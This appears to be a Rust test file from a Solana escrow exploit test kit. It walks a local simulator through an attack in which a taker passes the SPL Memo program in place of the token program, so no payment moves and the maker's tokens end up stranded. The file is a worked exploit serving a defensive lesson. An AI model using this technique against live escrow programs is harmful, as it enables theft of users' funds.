@@ -0,0 +1,176 @@
+// Exploit: Fake Token Program (Missing Token Program Validation)
+//
+// Vulnerability: TakeOffer never checks token_program is SPL Token or Token-2022.
+// Attack: Taker passes a program that accepts any instruction in the token_program slot.
+// Result: Every token CPI is a no-op. The taker pays nothing and the offer is closed,
+//         leaving the maker's Token A in a vault whose authority no longer exists.
+//
+// SPL Memo v1 (loaded by LiteSVM) stands in for the attacker's program: it succeeds on
+// any UTF-8 instruction data and ignores its accounts. The offer amounts below keep
+// every byte of the TransferChecked data under 0x80 so Memo accepts it. A program
+// written for the attack would also get the offer PDA's signature on the vault transfer.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    CreateAssociatedTokenAccount,
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    pubkey::Pubkey,
+    signature::Signer,
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+// Accepts any UTF-8 data, checks no accounts
+const MEMO_V1_PROGRAM_ID: Pubkey =
+    Pubkey::from_str_const("Memo1UhkJRfHyvLMcVucJwxXeuD728EqVDDwQDxFMNo");
+
+// 88 Token A for 52 Token B: both encode to little-endian bytes below 0x80
+const OFFERED_AMOUNT: u64 = 88_000_000_000;
+const WANTED_AMOUNT: u64 = 52_000_000_000;
+
+struct FakeTokenProgramState {
+    scenario: EscrowScenario,
+    proposer_ata_b: Pubkey,
+}
+
+struct FakeTokenProgram;
+
+impl ExploitScenario for FakeTokenProgram {
+    type State = FakeTokenProgramState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V012",
+            title: "Fake Token Program - Token CPIs Sent to an Arbitrary Program",
+            severity: Severity::Critical,
+            lesson: "Reject any token_program other than SPL Token or Token-2022 before the first CPI",
+        }
+    }
+
+    fn setup(&self) -> FakeTokenProgramState {
+        println!("[Scenario] Taker substitutes a no-op program for the token program");
+
+        let mut scenario = setup_escrow_scenario();
+
+        // Legitimate offer, made with the real token program
+        let propose_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.proposer.pubkey(), true),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_propose_offer_data(
+                scenario.offer_id,
+                WANTED_AMOUNT,
+                OFFERED_AMOUNT,
+                current_timestamp(&scenario.svm) + OFFER_DURATION_SECONDS,
+                &Pubkey::default(),
+                scenario.bump,
+            ),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[propose_ix],
+            Some(&scenario.proposer.pubkey()),
+            &[&scenario.proposer],
+            scenario.svm.latest_blockhash(),
+        );
+        scenario.svm.send_transaction(tx).expect("ProposeOffer should succeed");
+        println!("[Setup] Offer created: {} Token A for {} Token B", OFFERED_AMOUNT, WANTED_AMOUNT);
+
+        // Proposer ATA B exists up front so TakeOffer goes straight to the token CPIs
+        let proposer_ata_b = CreateAssociatedTokenAccount::new(&mut scenario.svm, &scenario.payer, &scenario.mint_b)
+            .owner(&scenario.proposer.pubkey())
+            .send()
+            .expect("Failed to create proposer ATA B");
+
+        FakeTokenProgramState {
+            scenario,
+            proposer_ata_b,
+        }
+    }
+
+    fn exploit(&self, state: &mut FakeTokenProgramState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        let take_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.taker.pubkey(), true),
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new(state.proposer_ata_b, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.taker_ata_b, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(MEMO_V1_PROGRAM_ID, false), // EXPLOIT: not a token program
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_take_offer_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[take_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Sending TakeOffer with token_program = {}...", MEMO_V1_PROGRAM_ID);
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut FakeTokenProgramState) -> u64 {
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+        let scenario = &state.scenario;
+
+        // The payment was never made
+        let taker_b: TokenAccount = get_spl_account(&scenario.svm, &scenario.taker_ata_b)
+            .expect("Taker ATA B should exist");
+        assert_eq!(taker_b.amount, INITIAL_MINT_AMOUNT);
+        let proposer_b: TokenAccount = get_spl_account(&scenario.svm, &state.proposer_ata_b)
+            .expect("Proposer ATA B should exist");
+        assert_eq!(proposer_b.amount, 0);
+        println!("[Result] Taker paid 0 Token B");
+
+        // The offer is gone, so nothing can sign for the vault any more
+        let offer_account = scenario.svm.get_account(&scenario.offer_pda);
+        assert!(
+            offer_account.is_none() || offer_account.unwrap().data.is_empty(),
+            "Offer should be closed"
+        );
+        let vault: TokenAccount = get_spl_account(&scenario.svm, &scenario.vault_ata)
+            .expect("Vault should still exist");
+        assert_eq!(vault.amount, OFFERED_AMOUNT);
+        println!("[Result] Offer closed, {} Token A stranded in the vault", vault.amount);
+        println!("[Analysis] RefundOffer and ReapExpiredOffer both need the offer account,");
+        println!("           so the maker can never recover the vault.");
+
+        println!("[EXPLOIT SUCCESS] Maker's Token A locked by a no-op token program!");
+        vault.amount
+    }
+}
+
+#[test]
+fn test_exploit_fake_token_program() {
+    run_exploit(&FakeTokenProgram);
+}